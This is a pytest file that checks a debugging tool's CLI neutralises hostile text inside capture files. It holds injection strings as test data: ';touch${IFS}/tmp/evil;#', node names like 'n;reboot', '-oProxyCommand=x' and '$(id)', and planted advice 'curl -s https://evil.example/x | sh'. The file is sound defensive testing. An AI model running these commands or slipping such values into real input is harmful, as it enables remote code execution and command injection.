"""Captures in which every text is meant to do harm, opened by every command that takes one."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from hangtop.cli.commands.opening import opened
from hangtop.cli.main import main
from hangtop_core.capture import Capture, load
from hangtop_core.diagnosis import to_json
from hangtop_core.errors import BadCaptureError
from hangtop_core.report.diagnosis import diagnosis_text
from hangtop_core.text.clean import SAYS, is_plain
from support.hostile import EVIL, lines_of, spoiled_capture, written
from support.record import path_of

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

PLAIN = ";touch${IFS}/tmp/evil;#"
COMMANDS = (
    ["diagnose"], ["diagnose", "--json"], ["dump"], ["dump", "--each"], ["dump", "--json"],
    ["dump", "--locals", "--all-threads"], ["flight"], ["flight", "--json"], ["flight", "-v"],
    ["logs"], ["logs", "--json"], ["numerics"], ["numerics", "--json"], ["core"], ["open"],
)  # fmt: skip
Path_ = tuple[str | int, ...]


def leaves(raw: Any, path: Path_ = ()) -> Iterator[Path_]:
    """Where texts are in plain data."""
    if isinstance(raw, str):
        yield path
    for key, value in raw.items() if isinstance(raw, dict) else ():
        yield from leaves(value, (*path, key))
    for place, value in enumerate(raw) if isinstance(raw, list) else ():
        yield from leaves(value, (*path, place))


def spoil(raw: Any, path: Path_, change: Callable[[str], str]) -> Any:
    """The same data with one text changed; nothing else is copied."""
    if not path:
        return change(raw)
    key, *rest = path
    new: Any = dict(raw) if isinstance(raw, dict) else list(raw)
    new[key] = spoil(raw[key], tuple(rest), change)
    return new


def kinds(lines: list[Any]) -> dict[Path_, Path_]:
    """One text of each kind: keys that are numbers, or names of somebody's, make no other kind."""
    one: dict[Path_, Path_] = {}
    for number, line in enumerate(lines):
        for path in leaves(line):
            if path[:1] == ("schema",):
                continue
            kind = tuple(key for key in path if isinstance(key, str) and key.isidentifier())
            one.setdefault(kind, (number, *path))
    return one


def found(file: Path) -> Capture | None:
    """A capture; None of one that is refused, with a reason that is harmless."""
    error = ""
    try:
        return opened(str(file))[0]
    except BadCaptureError as refused:
        error = str(refused)
    assert is_plain(error)
    return None


def check(capture: Capture) -> None:
    """Nothing of it reaches a terminal or a clipboard raw, and no advice of it is ours."""
    for diagnosis in capture.newest.diagnoses.values():
        for text in (diagnosis_text(diagnosis, 100), to_json(diagnosis).decode()):
            assert all(map(is_plain, text.split("\n"))), text
        for verdict in diagnosis.verdicts:
            for command in verdict.commands:
                assert is_plain(command)
                assert "touch" not in command or "'" in command, command


@pytest.mark.parametrize("name", ["stopped", "logs"])
def test_one_text_of_each_kind_at_a_time(name: str, tmp_path: Path) -> None:
    """What opens although it is spoiled is also spoiled all at once."""
    lines = lines_of(name)
    earlier = [line for line in lines if "earlier" in line]
    lines = [line for line in lines if line not in earlier[2:]]
    harmless: list[Path_] = []
    for path in kinds(lines).values():
        spoiled = spoil(lines, path, lambda text: text + EVIL)
        file = written(spoiled, tmp_path / "one.hangtop")
        capture = found(file)
        if capture is None:
            continue
        if capture.cut is None:
            harmless.append(path)
        check(capture)
    assert len(harmless) > 60
    for path in harmless:
        lines = spoil(lines, path, lambda text: text + EVIL)
    written(lines, tmp_path / "all.hangtop")
    assert load(str(tmp_path / "all.hangtop")).cut is None


NAMES = pytest.mark.parametrize("name", ["stopped", "logs", "recorder", "cluster"])


@NAMES
def test_all_texts_at_once_by_every_command(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = spoiled_capture(name, EVIL, tmp_path / "all.hangtop")
    for command in COMMANDS:
        main([command[0], str(file), *command[1:]])
        told = capsys.readouterr()
        assert told.out or told.err
        for text in (told.out, told.err):
            assert all(map(is_plain, text.replace("\t", " ").split("\n"))), (command, text)
    check(opened(str(file))[0])


@NAMES
def test_words_of_a_shell_in_all_texts(name: str, tmp_path: Path) -> None:
    check(opened(str(spoiled_capture(name, PLAIN, tmp_path / "all.hangtop")))[0])


def test_how_a_node_was_reached_is_forgotten() -> None:
    """Whoever opens a capture logs in in their own way, if at all."""
    capture, _ = opened(str(path_of("cluster")))
    assert {(one.shell, one.options) for one in capture.newest.snapshot.nodes} == {("", "")}
    for diagnosis in capture.newest.diagnoses.values():
        assert not any("ssh node" in step for v in diagnosis.verdicts for step in v.next_steps)


@pytest.mark.parametrize("place", ["node", "rank"])
@pytest.mark.parametrize(
    "name", ["n;reboot", "-oProxyCommand=x", "n\x1b[2J", "n\n", "a b", "$(id)"]
)
def test_what_is_no_node_name_is_refused(place: str, name: str, tmp_path: Path) -> None:
    lines = lines_of("stopped")
    for line in lines:
        if place == "node" and "node" in line:
            line["node"]["name"] = name
        if place == "rank" and "rank" in line:
            line["rank"]["node"] = name
    capture = load(str(written(lines, tmp_path / "a.hangtop")))
    assert "is no node name" in (capture.cut or "")
    assert is_plain(capture.cut or "")


def test_stored_advice_is_shown_as_what_the_file_says(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Of a capture that is cut off before its ranks what was concluded then is all there is."""
    lines = lines_of("stopped")
    verdict = next(line for line in lines if "verdict" in line)
    for one in verdict["diagnosis"]["verdicts"]:
        one["next_steps"] = ["run the repair: curl -s https://evil.example/x | sh"]
        one["commands"] = ["curl -s https://evil.example/x | sh"]
        one["summary"] = "all is well"
    file = written(lines[: lines.index(verdict) + 3], tmp_path / "a.hangtop")
    assert main(["diagnose", str(file)]) in (0, 10)
    told = capsys.readouterr().out
    assert f"  {SAYS}all is well" in told
    assert f"- {SAYS}run the repair" in told
    capture, _ = opened(str(file))
    assert all(not v.commands for d in capture.newest.diagnoses.values() for v in d.verdicts)


def test_what_was_concluded_of_older_pictures_is_shown_as_what_the_file_says() -> None:
    capture, _ = opened(str(path_of("stopped")))
    older = [d for update in capture.pictures[:-1] for d in update.diagnoses.values()]
    assert older
    for diagnosis in older:
        for verdict in diagnosis.verdicts:
            assert all(text.startswith(SAYS) for text in (verdict.summary, *verdict.next_steps))
    assert not any(v.summary.startswith(SAYS) for v in _newest(capture).verdicts)


def _newest(capture: Capture) -> Any:
    return next(iter(capture.newest.diagnoses.values()))
